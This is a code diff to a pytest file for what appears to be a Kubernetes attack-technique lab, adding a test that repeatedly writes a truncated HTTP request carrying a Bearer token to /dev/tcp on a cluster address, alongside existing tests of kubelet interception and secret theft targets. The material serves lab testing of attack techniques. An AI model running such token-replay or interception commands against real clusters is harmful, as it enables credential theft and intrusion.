@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
@@ -18,6 +19,7 @@ from labkit.techniques._lib.stores import forge as forging
 from labkit.techniques._lib.stores.secret import true_secret
 from labkit.techniques._lib.technique import NETWORK, ROOT_ON_WORKER
 from labkit.techniques._lib.wire.capture import capture
+from labkit.techniques.token_replay import _received
 
 pytestmark = pytest.mark.lab
 WANTED = (("shop", "db-credentials", "password"), ("payments", "card-processor", "api-key"))
@@ -173,3 +175,12 @@ def test_earlier_kept_connection_does_not_bypass_the_attacker(lab_hardened: Any)
         lab.kubectl(*read)
         assert stop()
     assert techniques["mitm-kubelet"].run(lab).reason.startswith("TLS alert")
+
+
+def test_request_that_was_cut_off_is_no_request(lab_insecure: Any) -> None:
+    cut = "printf 'GET / HTTP/1.0\\r\\nAuthorization: Bearer cut' > /dev/tcp/10.96.0.90/80"
+    with lab_insecure.exclusive("test"), ThreadPoolExecutor(max_workers=1) as aside:
+        whole = aside.submit(_received, lab_insecure)
+        while not whole.done():
+            lab_insecure.exec("worker1", ["bash", "-c", cut])
+        assert len(whole.result().split(".")) == 3
